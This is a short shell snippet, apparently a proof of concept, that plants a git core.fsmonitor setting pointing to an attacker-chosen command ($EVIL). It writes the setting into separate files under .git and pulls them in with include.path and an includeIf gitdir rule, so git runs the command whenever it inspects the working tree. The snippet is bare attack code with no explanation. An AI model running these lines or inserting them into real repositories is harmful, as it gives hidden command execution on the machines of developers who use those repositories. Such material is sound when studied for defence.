printf '[core]\n\tfsmonitor = %s\n' "$EVIL" > .git/more
git config include.path more
printf '[core]\n\tfsmonitor = %s\n' "$EVIL" > .git/if
git config 'includeIf.gitdir:**.path' if
